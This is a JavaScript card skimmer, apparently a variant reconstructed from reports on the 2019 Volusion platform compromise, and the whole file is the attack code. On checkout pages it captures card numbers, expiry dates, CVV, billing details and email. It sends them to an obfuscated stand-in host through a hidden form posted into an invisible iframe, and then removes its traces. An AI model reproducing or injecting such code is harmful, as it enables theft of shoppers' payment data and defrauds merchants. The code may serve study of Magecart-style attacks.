// volusion-gcs (variant b), written from the reports on the Volusion platform compromise
// (2019), as a variation: the skimmer attaches to the platform's one-page checkout form,
// copies card and billing fields into a hidden form when the order is submitted, and posts
// that form into an invisible iframe on the look-alike storage host, so no XHR is made.
(function(){
if(!/one-page-checkout|checkout\.asp/i.test(location.pathname))return;
var L=function(a){return a.join("")},D=L(["https://","storage-cart","platform",".invalid","/vsn/","c.php"]);
function go(){
 var src=document.forms["form1"]||document.querySelector("form[action*='checkout']");
 if(!src)return;
 var want=["CreditCardNumber","CC_ExpDate_Month","CC_ExpDate_Year","CVV2","CC_Name","BillingFirstName","BillingLastName","BillingAddress1","BillingCity","BillingPostalCode","BillingPhoneNumber","EmailAddress"];
 var fr=document.getElementById("vs_t");
 if(!fr){fr=document.createElement("iframe");fr.name=fr.id="vs_t";fr.style.cssText="position:absolute;width:0;height:0;border:0;visibility:hidden";document.body.appendChild(fr);}
 var f=document.createElement("form");
 f.method="POST";f.action=D;f.target="vs_t";f.style.display="none";
 for(var i=0;i<want.length;i++){
  var e=src.elements[want[i]];if(!e||!e.value)continue;
  var h=document.createElement("input");h.type="hidden";h.name="f"+i;h.value=e.value;f.appendChild(h);
 }
 var o=document.createElement("input");o.type="hidden";o.name="o";o.value=location.hostname;f.appendChild(o);
 document.body.appendChild(f);f.submit();
 setTimeout(function(){f.parentNode.removeChild(f)},500);
}
document.addEventListener("submit",function(ev){if(ev.target&&ev.target.name==="form1"||/checkout/.test(ev.target.action))go()},true);
})();
